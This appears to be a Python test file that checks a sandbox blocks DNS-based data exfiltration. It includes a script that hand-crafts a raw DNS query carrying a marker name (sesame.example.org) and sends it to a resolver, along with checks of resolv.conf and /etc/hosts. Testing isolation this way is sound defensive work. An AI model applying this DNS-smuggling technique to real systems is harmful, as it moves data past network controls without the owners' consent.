"""Attack: smuggle data out in the names that a resolver is asked for."""

from __future__ import annotations

import socket

QUERY = """
import socket, struct, sys
name = b"".join(bytes([len(part)]) + part for part in (b"sesame", b"example", b"org")) + b"\\0"
packet = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1)
for family, kind in ((socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_INET, socket.SOCK_STREAM)):
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(2)
            s.connect((sys.argv[1], int(sys.argv[2])))
            s.send(packet)
            print("asked", kind.name)
    except OSError as error:
        print(error.strerror)
"""
LOOKUP = """
import socket
try:
    print("found", socket.getaddrinfo("sesame.example.org", 80))
except OSError as error:
    print("no name:", error)
"""


async def test_a_resolver_of_the_host(sandbox, unprotected, python):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.bind(("127.0.0.1", 0))
        resolver.settimeout(5)
        where = resolver.getsockname()
        assert "asked SOCK_DGRAM" in unprotected(python(QUERY, *where, inside=False)).stdout
        assert b"sesame" in resolver.recv(512), "the control's question arrives"
        run = await sandbox.exec(python(QUERY, *where, inside=True), timeout_s=20)
        assert run.ok, run
        resolver.settimeout(0.3)
        try:
            arrived = resolver.recv(512)
        except TimeoutError:
            arrived = b""
    assert arrived == b""


async def test_no_resolver_is_configured(sandbox, unprotected, python):
    control = unprotected(python(LOOKUP.replace("sesame.example.org", "localhost"), inside=False))
    assert control.stdout.startswith("found"), "a name that the host's own tables have"
    assert unprotected(["cat", "/etc/resolv.conf"]).stdout, "and a resolver for the others"
    run = await sandbox.exec(python(LOOKUP, inside=True), timeout_s=30)
    assert run.text.startswith("no name:"), run
    assert (await sandbox.exec(["cat", "/etc/resolv.conf"])).text == ""


async def test_no_names_of_the_host(sandbox):
    hosts = (await sandbox.exec(["cat", "/etc/hosts"])).text
    assert {line.split()[0] for line in hosts.splitlines()} == {"127.0.0.1", "::1"}, hosts
    assert (await sandbox.exec(["cat", "/etc/hostname"])).text.strip() == "sandbox"
